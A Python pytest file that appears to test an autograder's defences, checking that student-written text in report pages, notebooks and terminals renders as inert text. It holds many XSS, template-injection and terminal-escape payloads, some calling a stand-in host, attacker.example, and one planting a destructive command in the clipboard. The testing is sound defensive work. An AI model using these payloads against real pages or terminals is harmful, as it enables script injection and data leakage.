"""Nothing that a student writes runs, fetches or changes anything: in a browser, a notebook, a terminal."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from html import unescape
from pathlib import Path
from typing import Any

import pytest
import sample_reports
from nbconvert import HTMLExporter
from nbformat import v4
from rich.console import Console

from autograder import dashboard, display, pages
from autograder.pages import plain
from autograder.results import Report

RUN = "window.ran=1,alert(1)"
OUT = "https://attacker.example/"

ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "script from outside": f"<script src={OUT}x.js></script>",
    "image": f'<img src=x onerror="{RUN}">',
    "image from outside": f"<img src={OUT}x.png srcset={OUT}y.png>",
    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s><use href={OUT}x.svg#a /></svg>",
    "math": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    "link": f"<a href=\"javascript:{RUN}\">x</a> javascript:{RUN} data:text/html,<script>{RUN}</script>",
    "base": f"<base href={OUT}><a href=x>x</a>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><iframe src={OUT}></iframe>",
    "object": f"<object data={OUT}></object><embed src={OUT}><object data='data:text/html,x'></object>",
    "refresh": f'<meta http-equiv="refresh" content="0;url={OUT}"><meta http-equiv=refresh content=0>',
    "style": f"</style><style>@import '{OUT}x.css'; * {{ display: none; background: url({OUT}x) }}</style>",
    "sheet": f"<link rel=stylesheet href={OUT}x.css><link rel=prefetch href={OUT}x>",
    "in css": f"red;background:url({OUT}x.png);x:expression({RUN})}} body{{display:none}}",
    "form": f"<form action={OUT}><input autofocus onfocus={RUN}><button formaction={OUT}>Go</button></form>",
    "closing tags": f"</pre></code></textarea></title></style></noscript></template><script>{RUN}</script>",
    "comment": f"--><script>{RUN}</script><!-- ]]> <![CDATA[ <script>{RUN}</script>",
    "attribute": f"\" onmouseover=\"{RUN}\" autofocus onfocus='{RUN}' x=\"' onclick={RUN} > <",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &#x3c;b&#x3e; &amp;",
    "template": "{{ 7 * 7 }} {% include 'style.css' %} {# x #} ${7*7} <%= 7 %> {{ ''.__class__ }}",
    "details": f"<details open ontoggle={RUN}><summary>x</summary></details><video><source onerror={RUN}>",
    "clobbering": "<form id=content name=body><img name=cookie><a id=documentElement></a></form>",
    "broken": f"<scr<script>ipt>{RUN}</scr</script>ipt> <img src=x onerror={RUN} //",
    "other brackets": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u2039b\u203a +ADw-script+AD4-{RUN}",
    "format": "{report} {0} %s %(x)s {report.__class__.__init__} \\x3cscript\\x3e \\u003cb\\u003e",
    "backticks": f"`<img src=x onerror={RUN}>` ``x`` `unclosed",
    "formula": rf"$\href{{javascript:{RUN}}}{{x}}$ \(\unicode{{60}}\) $$\require{{action}}\style{{x}}{{y}}$$",
}  # fmt: skip
REFRESHING = ("refresh",)  # a policy in the page can't forbid it

WATCH = """
window.violations = [];
document.addEventListener('securitypolicyviolation', e => violations.push(e.violatedDirective));
"""

# What there is on a page beside text: tags, attributes, and values that lead somewhere or do something.
STRUCTURE = """root => [...document.querySelectorAll(root + ' *')].filter(e => e.tagName !== 'WBR').map(e =>
  e.tagName + [...e.attributes].map(a => ' ' + a.name +
    (/^(href|src|style|class|id|http-equiv|content|rel)$/.test(a.name) ? '=' + a.value : '')).join(''))"""


class Visit:
    """A page in a browser, with all that it says, asks for and does."""

    def __init__(self, browser: Any, url: str) -> None:
        self.context = browser.new_context(viewport={"width": 1000, "height": 800})
        self.context.add_init_script(WATCH)
        self.page = self.context.new_page()
        self.said: list[str] = []
        self.asked: list[str] = []
        self.left: list[str] = []
        self.page.on("console", lambda message: self.said.append(message.text))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.on("dialog", self._dialog)
        self.context.on("request", lambda request: self.asked.append(request.url))
        self.context.on("page", lambda page: self.said.append(f"a new page: {page.url}"))
        self.context.route(re.compile("^(?!file:|data:)"), self._leave)
        self.page.goto(url, wait_until="load")

    def _leave(self, route: Any) -> None:
        """What gets here would have left the machine: the page's policy has let it pass."""
        self.left.append(route.request.url)
        route.abort()

    def _dialog(self, dialog: Any) -> None:
        self.said.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    def use(self) -> None:
        """What a reader may do without meaning to."""
        for summary in self.page.query_selector_all("summary"):
            summary.evaluate("e => e.click()")
        self.page.evaluate(
            """() => document.querySelectorAll('body *').forEach(e => {
                 for (const kind of ['mouseover', 'focus', 'click', 'toggle', 'pointerenter'])
                   if (!(kind === 'click' && e.closest('a[href], summary')))
                     e.dispatchEvent(new Event(kind, {bubbles: true})); })"""
        )
        self.page.keyboard.press("Tab")
        self.page.wait_for_timeout(50)

    def structure(self, root: str = "html") -> list[str]:
        return self.page.evaluate(STRUCTURE, root)

    def text(self, root: str = "body") -> str:
        return self.page.evaluate("root => document.querySelector(root).textContent", root)

    def ran(self) -> Any:
        return self.page.evaluate("window.ran")

    def __enter__(self) -> Visit:
        return self

    def __exit__(self, *_: object) -> None:
        self.context.close()


def hostile(text: str) -> Report:
    return sample_reports.hostile(text)


def squeezed(text: str) -> str:
    """Text without blanks, and without backticks: they make code of what they enclose."""
    return "".join(text.replace("`", "").split())


def without_code(structure: list[str]) -> list[str]:
    return [tag for tag in structure if tag != "CODE"]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A page per attack, a class of all who attack, and the same pages where everybody wrote "x"."""
    folder = tmp_path_factory.mktemp("hostile")
    for name, text in {**ATTACKS, "harmless": "x"}.items():
        (folder / f"{name}.html").write_text(pages.student_page(hostile(text)), "utf-8")
    for name, texts in {"class": ATTACKS.values(), "harmless class": map(str, range(9))}.items():
        (folder / f"{name}.html").write_text(dashboard.class_page([hostile(text) for text in texts]), "utf-8")
    return folder


def url(folder: Path, name: str) -> str:
    return (folder / f"{name}.html").as_uri()


@pytest.fixture(scope="module")
def harmless(browser: Any, folder: Path) -> list[str]:
    with Visit(browser, url(folder, "harmless")) as visit:
        return visit.structure()


@pytest.mark.browser
@pytest.mark.parametrize("name", ATTACKS)
def test_on_a_page_it_is_text_and_nothing_else(
    browser: Any, folder: Path, harmless: list[str], name: str
) -> None:
    with Visit(browser, url(folder, name)) as visit:
        structure = visit.structure()
        visit.use()
        assert visit.ran() is None and visit.said == []
        assert [u for u in visit.asked if u != "data:,"] == [url(folder, name)]
        assert visit.page.evaluate("violations") == [] and visit.page.evaluate("document.scripts.length") == 0
        policy = visit.page.evaluate("document.querySelector('meta[http-equiv]').content")
        assert policy.startswith("default-src 'none'; style-src 'sha256-") and "script-src" not in policy
        assert without_code(structure) == without_code(harmless)
        assert squeezed(visit.text()).count(squeezed(ATTACKS[name])) >= 10
        assert visit.page.title().startswith(ATTACKS[name][:60])


@pytest.mark.browser
def test_so_it_is_on_the_page_of_the_class(browser: Any, folder: Path) -> None:
    with Visit(browser, url(folder, "harmless class")) as visit:
        leads = "A href="  # pages of students have names of their own
        harmless = {tag for tag in visit.structure() if leads not in tag}
    with Visit(browser, url(folder, "class")) as visit:
        structure = visit.structure()
        visit.use()
        assert visit.ran() is None and visit.said == []
        assert [u for u in visit.asked if u != "data:,"] == [url(folder, "class")]
        kinds = {re.sub(r"table-\d+", "table-1", tag) for tag in structure if leads not in tag}
        assert kinds <= harmless
        links = {tag.removeprefix(leads) for tag in structure if tag.startswith(leads)}
        assert links and all(re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9._%-]*\.html", link) for link in links)
        text = squeezed(visit.text())
        assert all(squeezed(attack)[:90] in text for attack in ATTACKS.values())


@pytest.mark.browser
@pytest.mark.parametrize("name", [name for name in ATTACKS if name not in REFRESHING])
def test_even_if_it_were_markup_it_could_do_nothing(browser: Any, folder: Path, name: str) -> None:
    """The second lock: the page's policy."""
    page = (folder / "harmless.html").read_text("utf-8").replace("</main>", f"{ATTACKS[name]}</main>")
    slipped = folder / f"slipped {name}.html"
    slipped.write_text(page, "utf-8")
    with Visit(browser, slipped.as_uri()) as visit:
        visit.use()
        assert visit.ran() is None and not any(s.startswith("a ") for s in visit.said)
        visit.page.evaluate("document.querySelectorAll('form').forEach(form => form.submit())")
        assert visit.left == [] and visit.page.evaluate("document.baseURI") == slipped.as_uri()
        assert visit.page.evaluate("getComputedStyle(document.body).display") == "block"


@pytest.mark.browser
def test_the_watch_sees_what_runs_and_what_is_asked_for(browser: Any, tmp_path: Path) -> None:
    """Otherwise the tests above could not fail."""
    for name in ("script", "image", "script from outside", "details"):
        page = tmp_path / f"{name}.html"
        page.write_text(f"<!doctype html><body>{ATTACKS[name]}</body>", "utf-8")
        with Visit(browser, page.as_uri()) as visit:
            visit.use()
            if name == "script from outside":
                assert visit.asked[1:] == visit.left == [f"{OUT}x.js"]
            else:
                assert visit.ran() == 1 and "a dialog: 1" in visit.said


# In a notebook


def feedback(text: str) -> str:
    """What check(...) shows where every string of the result is `text`."""
    exercise = hostile(text).exercises[2]
    assert exercise.status == "failed"
    return display.exercise_html(exercise)


CELL = ".jp-Cell:nth-of-type({}) .jp-OutputArea-output"


@pytest.mark.browser
def test_in_a_notebook_it_is_text_and_nothing_else(browser: Any, tmp_path: Path) -> None:
    """As nbconvert shows it, and nbgrader, whose pages are nbconvert's."""

    def exported(name: str, texts: list[str]) -> str:
        outputs = [v4.new_output("execute_result", {"text/html": feedback(text)}) for text in texts]
        cells = [v4.new_code_cell("check(elbo)", outputs=[output]) for output in outputs]
        page, _ = HTMLExporter().from_notebook_node(v4.new_notebook(cells=cells))
        (tmp_path / f"{name}.html").write_text(page, "utf-8")
        return url(tmp_path, name)

    with Visit(browser, exported("harmless", ["x"])) as visit:
        harmless, asked = visit.structure(CELL.format(1)), visit.asked[1:]
        assert len(harmless) > 10
    with Visit(browser, exported("hostile", list(ATTACKS.values()))) as visit:
        found = {name: visit.structure(CELL.format(i)) for i, name in enumerate(ATTACKS, 1)}
        visit.use()
        assert visit.ran() is None and not any(said.startswith("a ") for said in visit.said)
        assert sorted(visit.asked[1:]) == sorted(asked)
        for i, (name, text) in enumerate(ATTACKS.items(), 1):
            assert without_code(found[name]) == without_code(harmless), name
            assert squeezed(visit.text(CELL.format(i))).count(squeezed(text)) >= 5, name


def test_feedback_holds_no_control_characters_and_no_markup_of_students() -> None:
    html = feedback(sample_reports.HOSTILE + "  # \x1b[31m\u202e\x9b5A shape")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", html)
    assert set(re.findall(r"<(\w+)", html)) <= set("div span code strong pre details summary br".split())
    assert "<script>document" in unescape(html)


# In a terminal


TERMINAL = {
    "colours": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H\x1bc",
    "title": "\x1b]0;title\x07\x1b]2;title\x1b\\",
    "link": "\x1b]8;;https://attacker.example\x1b\\link\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "c1": "\x9b31m\x9d0;title\x9c\x90q\x9c\x85",
    "answerback": "\x05\x1b[c\x1b[6n\x1b[21t\x1bZ",
    "overwriting": "wrong\rright\b\b\b\x7f",
    "bidi": "\u202egnp\u2066\u200f\u061c",
    "hidden": "a\u200b\u2060\u00ad\u3164\ufeff\U000e0041b",
    "markup": "[link=https://attacker.example]x[/link][red]y[/][/b] [@click=app.bell]z[/]",
    "emoji": ":skull: [bold]",
    "unended": "\x1b]8;;https://attacker.example",
}
OBEYED = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\u3164\ufeff\U000e0000-\U000e007f]"
)


@pytest.fixture
def console() -> Iterator[Console]:
    """A terminal that shows colours, with those that we print ourselves left out of what it got."""

    class Terminal(io.StringIO):
        def got(self) -> str:
            return re.sub(r"\x1b\[[0-9;]*m", "", self.getvalue())

    yield Console(file=Terminal(), force_terminal=True, width=100)


@pytest.mark.parametrize("name", TERMINAL)
def test_a_terminal_obeys_nothing_that_students_write(name: str, console: Console) -> None:
    report = hostile(f"{TERMINAL[name]} end")
    pages.show(report, console)
    console.print(display.summary([report]))
    console.print(display.exercise_text(report.exercises[2]), markup=False)
    text = console.file.got()  # type: ignore[attr-defined]
    assert not OBEYED.search(text)
    if name in ("markup", "emoji"):
        assert squeezed(TERMINAL[name]) in squeezed(text)
    assert not OBEYED.search(display.exercise_text(report.exercises[2]))


@pytest.mark.parametrize("name", TERMINAL)
def test_nor_does_it_when_somebody_prints_a_report(name: str) -> None:
    text = hostile(TERMINAL[name]).to_json()
    assert not OBEYED.search(text.replace("\u3164", ""))
    assert Report.from_json(text) == hostile(TERMINAL[name])


def test_what_is_plain_hides_nothing() -> None:
    assert plain(TERMINAL["hidden"]) == "a[U+200B][U+2060][U+00AD][U+3164]b"
    assert plain("نمی\u200cخواهم \U0001f469\u200d\U0001f680") == "نمی\u200cخواهم \U0001f469\u200d\U0001f680"
